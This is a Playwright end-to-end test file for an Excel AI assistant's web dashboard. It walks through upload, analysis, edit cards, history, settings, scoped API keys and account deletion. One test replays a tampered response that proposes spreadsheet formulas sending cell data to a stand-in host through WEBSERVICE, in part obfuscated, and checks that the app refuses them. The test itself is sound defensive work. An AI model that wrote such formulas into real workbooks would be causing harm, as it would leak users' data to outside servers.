// The web dashboard end to end, as one new user on embedded defaults (no AI provider, so the
// offline analyst answers from the data): sign up → empty overview → playground (upload the
// sales workbook, analysis, a range, a streamed answer with real figures, edit cards applied to
// the browser copy with Undo, the edited .xlsx downloaded, a CSV) → overview with usage →
// history (search, open, export, delete one, delete all) → settings persisted → connect → API
// keys with scopes → account (export, audit log, deletion with the password). A screenshot of each page is saved per project.
import { mkdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { expect, test, type Browser, type Page, type TestInfo } from "@playwright/test";
import { read } from "xlsx";
import { salesRows, writeSalesFixtures } from "../fixtures/workbooks/build-sales-workbook";
import { replayChatStream, uiMessageStreamBody } from "./fixtures/replay-chat-stream";

const SCREENSHOTS = path.join("tests", "e2e", "screenshots");
const PASSWORD = "Spreadsheet-42!";
const SLOW = { timeout: 30_000 };

const usd = (n: number) => `$${n.toLocaleString("en-US", { minimumFractionDigits: 2, maximumFractionDigits: 2 })}`;
const TOTAL_REVENUE = usd(salesRows().reduce((sum, row) => sum + row.revenue, 0));

async function snap(page: Page, testInfo: TestInfo, name: string) {
  const dir = path.join(SCREENSHOTS, testInfo.project.name);
  mkdirSync(dir, { recursive: true });
  // A full-page shot of a scrolled page paints the sticky header mid-page.
  await page.evaluate(() => window.scrollTo(0, 0));
  await page.screenshot({ path: path.join(dir, `dashboard-${name}.png`), fullPage: true });
}

/**
 * A canned answer in the AI SDK UI message stream protocol, for the edit-card steps only: the
 * offline analyst never proposes edits, so the proposals a model would make are replayed here.
 * Everything else in this file talks to the real server.
 */
const PROPOSAL_CONVERSATION = "0b7c4e52-5b1e-4f5e-9d43-7a2f7c1e9a01";

function proposalStream(): string {
  const chunks = [
    { type: "start", messageId: "e2e-proposals", messageMetadata: { conversationId: PROPOSAL_CONVERSATION } },
    { type: "start-step" },
    { type: "text-start", id: "t1" },
    { type: "text-delta", id: "t1", delta: "Here is a revenue-per-unit column, and a chart." },
    { type: "text-end", id: "t1" },
    {
      type: "tool-input-available",
      toolCallId: "call_header",
      toolName: "write_range",
      input: { address: "Sales!F1", values: [["Revenue per unit"]], explanation: "Adds a header for the new column." },
    },
    {
      type: "tool-input-available",
      toolCallId: "call_formulas",
      toolName: "write_range",
      input: { address: "Sales!F2:F3", formulas: [["=E2/C2"], ["=E3/C3"]], explanation: "Divides revenue by units for the first two rows." },
    },
    {
      type: "tool-input-available",
      toolCallId: "call_chart",
      toolName: "add_chart",
      input: { sourceAddress: "Sales!A1:E49", chartType: "Line", title: "Revenue", explanation: "Shows revenue over time." },
    },
    { type: "finish-step" },
    { type: "finish" },
  ];
  return uiMessageStreamBody(chunks);
}

async function readDownload(page: Page, click: () => Promise<void>) {
  const [download] = await Promise.all([page.waitForEvent("download"), click()]);
  const file = await download.path();
  return { name: download.suggestedFilename(), bytes: readFileSync(file) };
}

test.describe.configure({ mode: "serial" });
test.use({ permissions: ["clipboard-read", "clipboard-write"] });

let page: Page;
let email: string;
let fixtures: { xlsx: string; csv: string };

test.beforeAll(async ({ browser }: { browser: Browser }, testInfo) => {
  fixtures = writeSalesFixtures();
  const project = testInfo.project.use;
  const context = await browser.newContext({
    viewport: project.viewport,
    userAgent: project.userAgent,
    deviceScaleFactor: project.deviceScaleFactor,
    isMobile: project.isMobile,
    hasTouch: project.hasTouch,
    baseURL: project.baseURL,
    permissions: ["clipboard-read", "clipboard-write"],
    acceptDownloads: true,
  });
  page = await context.newPage();
  email = `e2e-dash-${testInfo.project.name}-${Date.now()}-${Math.random().toString(36).slice(2, 8)}@example.com`;
  await page.goto("/sign-up");
  await page.getByLabel("Email").fill(email);
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Create account" }).click();
  await expect(page).toHaveURL(/\/dashboard$/, SLOW);
});

test.afterAll(async () => {
  await page?.context().close();
});

test("overview is honest before any usage", async ({}, testInfo) => {
  await page.goto("/dashboard");
  await expect(page.getByRole("heading", { level: 1, name: "Overview" })).toBeVisible();
  await expect(page.getByText(/No chats in the last 30 days/)).toBeVisible(SLOW);
  await expect(page.getByRole("progressbar", { name: "Chats today" })).toHaveAttribute("aria-valuenow", "0");
  await expect(page.getByText("0 of 50", { exact: true })).toBeVisible();
  await expect(page.getByText("No conversations yet.")).toBeVisible();
  await snap(page, testInfo, "01-overview-empty");
});

test("playground: upload, analysis, range, streamed answer", async ({}, testInfo) => {
  await page.goto("/dashboard/playground");
  await expect(page.getByRole("heading", { level: 1, name: "Playground" })).toBeVisible();
  await snap(page, testInfo, "02-playground-empty");

  // Wrong file types are refused before reading.
  await page.locator("#playground-file").setInputFiles({ name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("hello") });
  await expect(page.locator("#playground-file-error")).toContainText("Choose an .xlsx, .xls or .csv file");

  await page.locator("#playground-file").setInputFiles(fixtures.xlsx);
  await expect(page.getByTestId("workbook-name")).toHaveText("sales.xlsx", SLOW);
  // The drop zone that had focus is gone: focus moves to the opened workbook's name.
  await expect(page.getByTestId("workbook-name")).toBeFocused();
  await expect(page.getByLabel("Range", { exact: true })).toHaveValue("A1:E49");

  // The analysis of the used range: types, statistics, insights, recommendations, a chart.
  await expect(page.getByTestId("analysis-summary")).toContainText("48 rows × 5 columns");
  const columns = page.getByTestId("columns-table");
  await expect(columns.getByRole("row", { name: /Revenue/ })).toContainText("currency");
  await expect(columns.getByRole("row", { name: /Revenue/ })).toContainText("$1,134.00");
  await expect(columns.getByRole("row", { name: /Date/ })).toContainText("date");
  await expect(page.getByTestId("insights")).toContainText("Revenue");
  await expect(page.getByTestId("recommendations")).toContainText("=SUM(");
  await expect(page.getByRole("figure", { name: /by Date/ })).toBeVisible();
  await snap(page, testInfo, "03-playground-analysis");

  // A typed range is validated, then analysed.
  await page.getByLabel("Range", { exact: true }).fill("A1:B2,D4");
  await page.getByRole("button", { name: "Use range" }).click();
  await expect(page.getByRole("alert").filter({ hasText: "one rectangular range" })).toBeVisible();
  await page.getByLabel("Range", { exact: true }).fill("A1:E13");
  await page.getByRole("button", { name: "Use range" }).click();
  await expect(page.getByTestId("analysis-summary")).toContainText("12 rows × 5 columns");
  await page.getByRole("button", { name: "Use all of them" }).click();
  await expect(page.getByTestId("analysis-summary")).toContainText("48 rows × 5 columns");

  await page.getByRole("tab", { name: "Cells" }).click();
  await expect(page.getByTestId("data-preview")).toContainText("North");

  // Ask: what is sent is shown first, then the offline analyst's answer streams in.
  await page.getByRole("tab", { name: /Chat/ }).click();
  const preview = page.getByTestId("context-preview");
  await expect(preview).toContainText("Sales!A1:E49");
  await expect(preview).toContainText("245 cells");
  await preview.locator("summary").click();
  await expect(preview.locator("pre")).toContainText("Revenue");
  await page.getByLabel("Ask about this range").fill("What is the total revenue?");
  await page.getByLabel("Ask about this range").press("Enter");
  const answer = page.getByTestId("chat-assistant").last();
  await expect(answer).toContainText("No AI model answered this", SLOW);
  await expect(page.getByTestId("chat-status")).toHaveText("The answer is complete.", SLOW);
  await expect(answer).toContainText(TOTAL_REVENUE);
  await expect(answer).toContainText("Offline analyst");
  await expect(answer).toContainText("Sent Sales!A1:E49: 245 cells");
  await expect(page.getByRole("link", { name: "Saved in History" })).toBeVisible();
  await snap(page, testInfo, "04-playground-answer");
});

test("playground: edit cards change the browser copy, undo, download", async ({}, testInfo) => {
  await page.getByRole("button", { name: "New conversation" }).click();
  await page.route("**/api/chat", (route) =>
    route.fulfill({ status: 200, headers: { "Content-Type": "text/event-stream", "x-vercel-ai-ui-message-stream": "v1" }, body: proposalStream() }),
  );
  await page.getByLabel("Ask about this range").fill("Add a revenue per unit column");
  await page.getByRole("button", { name: "Send" }).click();
  const cards = page.getByTestId("edit-card");
  await expect(cards).toHaveCount(3, SLOW);
  await page.unroute("**/api/chat");
  // Each decision is stored as it is made (PATCH), not only with the next question.
  const reported: { outcomes: { messageId: string; toolCallId: string; outcome: { status: string } }[] }[] = [];
  await page.route(`**/api/conversations/${PROPOSAL_CONVERSATION}`, (route) => {
    if (route.request().method() !== "PATCH") return route.continue();
    reported.push(route.request().postDataJSON());
    return route.fulfill({ status: 200, json: { updatedMessages: 1 } });
  });

  const header = cards.filter({ hasText: "Adds a header" });
  const formulas = cards.filter({ hasText: "Divides revenue" });
  const chart = cards.filter({ hasText: "revenue over time" });
  // The exact change, before deciding.
  await expect(header.getByRole("row", { name: /F1/ })).toContainText("(empty)");
  await expect(header.getByRole("row", { name: /F1/ })).toContainText("Revenue per unit");
  await expect(formulas.getByRole("row", { name: /F2/ })).toContainText("=E2/C2");
  await expect(formulas).toContainText("calculated when the file is opened in Excel");
  // A chart cannot live in the browser copy: it says so and offers only Reject.
  await expect(chart).toContainText("cannot create charts");
  await expect(chart.getByRole("button", { name: "Apply" })).toHaveCount(0);
  await snap(page, testInfo, "05-playground-edit-cards");

  // The three proposals of the answer form one change set: applied together, the chart (which
  // the copy cannot hold) left out and reported as not applied.
  const set = page.getByTestId("change-set");
  await expect(set).toContainText("3 changes on Sales");
  await expect(set).toContainText("One change the browser copy cannot hold is left out.");
  await expect(header.getByRole("button", { name: "Apply" })).toHaveCount(0);
  await set.getByRole("button", { name: "Apply all" }).click();
  await expect(header).toContainText("Applied");
  await expect(formulas).toContainText("Applied");
  await expect(chart).toContainText("Rejected");
  await expect(set.getByTestId("change-set-status")).toHaveText("Applied");
  await expect
    .poll(() => reported.flatMap((r) => r.outcomes.map((o) => `${o.messageId} ${o.toolCallId} ${o.outcome.status}`)))
    .toEqual(["e2e-proposals call_header applied", "e2e-proposals call_formulas applied", "e2e-proposals call_chart rejected"]);
  await expect(set.getByRole("button", { name: "Undo all" })).toBeEnabled();

  const saved = await readDownload(page, () => page.getByRole("button", { name: "Download .xlsx" }).click());
  expect(saved.name).toBe("sales (edited).xlsx");
  const edited = read(saved.bytes, { type: "buffer", cellFormula: true, sheetStubs: true });
  expect(edited.Sheets.Sales.F1.v).toBe("Revenue per unit");
  expect(edited.Sheets.Sales.F2.f).toBe("E2/C2");
  expect(edited.Sheets.Sales.E2.f).toBe("C2*D2");
  expect(edited.SheetNames).toEqual(["Sales", "Notes"]);

  // The used range grew; the Cells tab shows the new column, the formula marked as not yet calculated.
  await page.getByRole("button", { name: "Use all of them" }).click();
  await page.getByRole("tab", { name: "Cells" }).click();
  await expect(page.getByTestId("data-preview")).toContainText("Revenue per unit");
  await expect(page.getByTestId("data-preview")).toContainText("=E2/C2");
  await expect(page.getByRole("tabpanel", { name: "Cells" }).getByText(/calculated when the file is opened in Excel/)).toBeVisible();
  await snap(page, testInfo, "06-playground-cells-edited");

  await page.getByRole("tab", { name: /Chat/ }).click();
  // One Undo all puts both writes back.
  await set.getByRole("button", { name: "Undo all" }).click();
  await expect(formulas).toContainText("Undone");
  await expect(header).toContainText("Undone");
  const restored = await readDownload(page, () => page.getByRole("button", { name: "Download .xlsx" }).click());
  const original = read(restored.bytes, { type: "buffer", cellFormula: true });
  expect(original.Sheets.Sales.F1).toBeUndefined();
  expect(original.Sheets.Sales.F2).toBeUndefined();
  expect(original.Sheets.Sales["!ref"]).toBe("A1:E49");
  await expect.poll(() => reported.length).toBe(5);
  await page.unroute(`**/api/conversations/${PROPOSAL_CONVERSATION}`);
});

test("playground: a risky formula is refused with its rule named, and the copy is left as it was", async ({}, testInfo) => {
  await page.getByRole("button", { name: "New conversation" }).click();
  // Replayed the way a tampered response or a stored conversation would bring it: the server's
  // check never saw it, so the playground's own check (the same formula policy) must hold.
  const chunks = [
    { type: "start", messageId: "e2e-risky" },
    { type: "start-step" },
    { type: "text-start", id: "t1" },
    { type: "text-delta", id: "t1", delta: "Here is the enriched column." },
    { type: "text-end", id: "t1" },
    {
      type: "tool-input-available",
      toolCallId: "call_exfiltrate",
      toolName: "write_range",
      input: { address: "Sales!F2:F3", formulas: [['=IFERROR(WEBSERVICE("h"&"ttps://x.example/?d="&B2),"")'], ["=LET(f,WEBSERVICE,f(B3))"]], explanation: "Looks up each region." },
    },
    {
      type: "tool-input-available",
      toolCallId: "call_value",
      toolName: "write_range",
      input: { address: "Sales!G2", values: [["=STOCKHISTORY(A2,TODAY())"]], explanation: "Adds the price history." },
    },
    { type: "finish-step" },
    { type: "finish" },
  ];
  await replayChatStream(page, chunks);
  await page.getByLabel("Ask about this range").fill("Enrich each region from the web");
  await page.getByRole("button", { name: "Send" }).click();
  const refusals = page.getByText("A proposed change was refused:");
  await expect(refusals).toHaveCount(2, SLOW);
  await page.unroute("**/api/chat");
  await expect(refusals.nth(0)).toContainText('F2 calls WEBSERVICE (rule "network"');
  await expect(refusals.nth(0)).toContainText('F3 passes WEBSERVICE by name');
  await expect(refusals.nth(1)).toContainText('G2 calls STOCKHISTORY (rule "outside_service"');
  await expect(page.getByTestId("edit-card")).toHaveCount(0);
  await snap(page, testInfo, "06b-playground-risky-formula-refused");

  const saved = await readDownload(page, () => page.getByRole("button", { name: "Download .xlsx" }).click());
  const book = read(saved.bytes, { type: "buffer", cellFormula: true });
  expect(book.Sheets.Sales["!ref"]).toBe("A1:E49");
  expect(book.Sheets.Sales.F2).toBeUndefined();
  expect(book.Sheets.Sales.G2).toBeUndefined();
});

test("playground: a second conversation, about the CSV", async ({}, testInfo) => {
  await page.getByRole("button", { name: "New conversation" }).click();
  await page.getByText("Open another file").click();
  await page.locator("#playground-file").setInputFiles(fixtures.csv);
  await expect(page.getByTestId("workbook-name")).toHaveText("sales.csv", SLOW);
  await expect(page.getByTestId("analysis-summary")).toContainText("48 rows × 5 columns");
  await page.getByRole("tab", { name: /Chat/ }).click();
  await page.getByRole("button", { name: "Which chart fits this data?" }).click();
  await expect(page.getByTestId("chat-status")).toHaveText("The answer is complete.", SLOW);
  await expect(page.getByTestId("chat-assistant").last()).toContainText("Line chart");
  await snap(page, testInfo, "07-playground-csv");
});

test("overview shows the usage", async ({}, testInfo) => {
  await page.goto("/dashboard");
  await expect(page.getByRole("figure", { name: "Chats per day" })).toBeVisible(SLOW);
  await expect(page.getByRole("figure", { name: "Chats per day" })).toContainText("2 chats in 30 days");
  await expect(page.getByText("2 of 50", { exact: true })).toBeVisible();
  await expect(page.getByRole("region", { name: "Recent conversations" }).getByRole("link", { name: "What is the total revenue?" })).toBeVisible();
  await snap(page, testInfo, "08-overview-usage");

  // The period is part of the URL: the server renders that window, and a reload keeps it.
  await page.getByLabel("Period").selectOption("7");
  await expect(page).toHaveURL(/\/dashboard\?days=7$/);
  await expect(page.getByRole("figure", { name: "Chats per day" })).toContainText("2 chats in 7 days");
  await page.reload();
  await expect(page.getByLabel("Period")).toHaveValue("7");
  await expect(page.getByText("Chats, last 7 days")).toBeVisible();
});

test("history: search, open, export, delete one, delete all", async ({}, testInfo) => {
  await page.goto("/dashboard/history");
  const rows = page.getByTestId("conversation-row");
  await expect(rows).toHaveCount(2, SLOW);
  await snap(page, testInfo, "09-history");

  await page.getByLabel("Search conversations").fill("total revenue");
  await page.getByRole("button", { name: "Search" }).click();
  await expect(page.getByRole("status").filter({ hasText: "1 conversation match" })).toBeVisible();
  await expect(rows).toHaveCount(1);
  await expect(page).toHaveURL(/q=total\+revenue/);
  await page.getByLabel("Search conversations").fill("no such words anywhere");
  await page.getByRole("button", { name: "Search" }).click();
  await expect(page.getByText("No conversation matches “no such words anywhere”.")).toBeVisible();
  await page.getByRole("button", { name: "Clear the search" }).click();
  await expect(rows).toHaveCount(2);

  await page.getByRole("link", { name: "What is the total revenue?" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "What is the total revenue?" })).toBeVisible(SLOW);
  await expect(page.getByTestId("history-message-assistant")).toContainText(TOTAL_REVENUE);
  await expect(page.getByTestId("history-message-user")).toContainText("Sent Sales!A1:E49: 245 cells");
  // Model output is rendered as markdown without raw HTML or images.
  await expect(page.getByTestId("history-message-assistant").locator("img, script, iframe")).toHaveCount(0);
  await snap(page, testInfo, "10-history-conversation");

  const exported = await readDownload(page, () => page.getByRole("button", { name: "Export JSON" }).click());
  expect(exported.name).toMatch(/^conversation-\d{4}-\d{2}-\d{2}-what-is-the-total-revenue\.json$/);
  const json = JSON.parse(exported.bytes.toString("utf8"));
  expect(json.conversation.title).toBe("What is the total revenue?");
  expect(json.messages.map((m: { role: string }) => m.role)).toEqual(["user", "assistant"]);

  await page.getByRole("button", { name: "Delete" }).click();
  const dialog = page.getByRole("alertdialog");
  await expect(dialog).toContainText("deleted for good");
  await dialog.getByRole("button", { name: "Delete conversation" }).click();
  await expect(page).toHaveURL(/\/dashboard\/history$/);
  await expect(rows).toHaveCount(1, SLOW);

  await page.getByRole("button", { name: "Delete all" }).click();
  await page.getByRole("alertdialog").getByRole("button", { name: "Delete all conversations" }).click();
  await expect(page.getByText("No conversations yet.")).toBeVisible();
  await expect(page.getByRole("status").filter({ hasText: "Deleted 1 conversation." })).toBeVisible();
});

test("settings persist", async ({}, testInfo) => {
  await page.goto("/dashboard/settings");
  await expect(page.getByRole("heading", { level: 1, name: "Settings" })).toBeVisible();
  await expect(page.getByRole("radio", { name: "Ask before every change" })).toBeChecked(SLOW);
  await expect(page.getByRole("switch", { name: "Redact personal data" })).not.toBeChecked();

  await page.getByLabel("Keep conversations for (days)").fill("0");
  await page.getByRole("button", { name: "Save settings" }).click();
  await expect(page.getByText("Keep conversations between 1 and 3,650 days.")).toBeVisible();

  await page.getByLabel("Display name").fill("Dana Analyst");
  await page.getByRole("radio", { name: "Read only" }).check();
  await page.getByRole("switch", { name: "Redact personal data" }).click();
  await page.getByLabel("Keep conversations for (days)").fill("30");
  await page.getByRole("button", { name: "Save settings" }).click();
  await expect(page.getByRole("status").filter({ hasText: "Settings saved." })).toBeVisible();

  await page.reload();
  await expect(page.getByLabel("Display name")).toHaveValue("Dana Analyst", SLOW);
  // The e2e server offers no AI model (the offline analyst answers): the only choice is Automatic.
  await expect(page.getByLabel("Preferred model")).toHaveValue("");
  await expect(page.getByRole("radio", { name: "Read only" })).toBeChecked();
  await expect(page.getByRole("switch", { name: "Redact personal data" })).toBeChecked();
  await expect(page.getByLabel("Keep conversations for (days)")).toHaveValue("30");
  await snap(page, testInfo, "11-settings");
});

test("connect shows this deployment's manifest", async ({ baseURL }, testInfo) => {
  await page.goto("/dashboard/connect");
  await expect(page.getByRole("heading", { level: 1, name: "Get the Excel add-in" })).toBeVisible();
  const url = `${baseURL}/addin/manifest.xml`;
  await expect(page.getByLabel("Manifest URL")).toHaveValue(url);
  await page.getByRole("button", { name: "Copy URL" }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(url);
  for (const platform of ["Excel on the web", "Excel on Windows", "Excel on Mac"]) await expect(page.locator("summary", { hasText: platform })).toBeVisible();
  await expect(page.getByRole("link", { name: "Create an API key" })).toHaveAttribute("href", "/dashboard/keys");
  const manifest = await page.request.get(url);
  expect(manifest.status()).toBe(200);
  expect(await manifest.text()).toContain(`${baseURL}/addin/taskpane`);
  await snap(page, testInfo, "12-connect");
});

test("API keys: choose what a key may do, see it at creation and in the list", async ({}, testInfo) => {
  await page.goto("/dashboard/keys");
  await expect(page.getByRole("heading", { level: 1, name: "API keys" })).toBeVisible();
  const scopes = page.getByRole("group", { name: "What this key may do" });
  // Every scope starts ticked, each with a plain description.
  for (const label of ["Chat", "History", "Usage"]) {
    await expect(scopes.getByRole("checkbox", { name: label })).toBeChecked();
  }
  await expect(scopes).toContainText("Read past conversations");
  await expect(scopes).toContainText("needs you signed in");

  // With nothing ticked, the form says what is missing and creates nothing.
  for (const label of ["Chat", "History", "Usage"]) await scopes.getByRole("checkbox", { name: label }).click();
  await page.getByLabel("Key name").fill("Reporting script");
  await page.getByRole("button", { name: "Create key" }).click();
  await expect(scopes.getByRole("alert")).toContainText("Choose at least one thing this key may do.");
  await expect(page.getByTestId("api-key-row")).toHaveCount(0);

  await scopes.getByRole("checkbox", { name: "History" }).click();
  await scopes.getByRole("checkbox", { name: "Usage" }).click();
  await page.getByRole("button", { name: "Create key" }).click();
  const notice = page.getByTestId("new-key-notice");
  await expect(notice.getByTestId("api-key-scopes").getByRole("listitem")).toHaveText(["History", "Usage"]);
  const key = await notice.getByLabel("New API key").inputValue();
  await snap(page, testInfo, "12b-keys-scoped");

  // The server holds the key to what it may do: usage yes, chat no, managing keys never.
  const auth = { Authorization: `Bearer ${key}` };
  expect((await page.request.get("/api/usage", { headers: auth })).status()).toBe(200);
  const chat = await page.request.post("/api/v1/chat", { headers: auth, data: { message: "Sum column B" } });
  expect(chat.status()).toBe(403);
  expect((await chat.json()).error.message).toContain("`chat` scope");
  expect((await page.request.get("/api/keys", { headers: auth })).status()).toBe(403);

  await notice.getByRole("button", { name: "Done" }).click();
  // The list comes from the server and shows each key's scopes.
  await page.reload();
  const row = page.getByTestId("api-key-row").filter({ hasText: "Reporting script" });
  await expect(row.getByTestId("api-key-scopes").getByRole("listitem")).toHaveText(["History", "Usage"]);
});

test("account: export, audit log, delete", async ({}, testInfo) => {
  await page.goto("/dashboard/account");
  await expect(page.getByRole("heading", { level: 1, name: "Account" })).toBeVisible();
  await expect(page.getByTestId("audit-log")).toContainText("Settings changed", SLOW);

  const exported = await readDownload(page, () => page.getByRole("button", { name: "Export my data (JSON)" }).click());
  expect(exported.name).toMatch(/^excel-ai-assistant-export-\d{4}-\d{2}-\d{2}\.json$/);
  const data = JSON.parse(exported.bytes.toString("utf8"));
  expect(data.user.email).toBe(email);
  expect(data.profile.write_mode).toBe("read_only");
  expect(data.usageRecords.length).toBe(2);
  await expect(page.getByRole("status").filter({ hasText: "Your export has been downloaded." })).toBeVisible();
  await snap(page, testInfo, "13-account");

  await page.getByRole("button", { name: "Delete my account" }).click();
  const dialog = page.getByRole("dialog", { name: "Delete your account?" });
  const confirm = dialog.getByRole("button", { name: "Delete account for good" });
  await dialog.getByLabel(/to confirm/).fill("someone-else@example.com");
  await expect(confirm).toBeDisabled();
  await dialog.getByLabel(/to confirm/).fill(email);
  // The password is asked again: an open session alone cannot erase the account.
  await expect(confirm).toBeDisabled();
  await dialog.getByLabel("Your password").fill("not-my-password-1");
  await confirm.click();
  await expect(dialog.getByRole("alert")).toContainText("That password is not right", SLOW);
  await dialog.getByLabel("Your password").fill(PASSWORD);
  await snap(page, testInfo, "14-account-delete-dialog");
  await confirm.click();
  await expect(page).toHaveURL(/\/$/, SLOW);

  await page.goto("/dashboard");
  await expect(page).toHaveURL(/\/sign-in\?next=%2Fdashboard/);
  await page.getByLabel("Email").fill(email);
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Sign in" }).click();
  await expect(page.locator("form [role=alert]")).not.toBeEmpty();
  await expect(page).toHaveURL(/\/sign-in/);
});
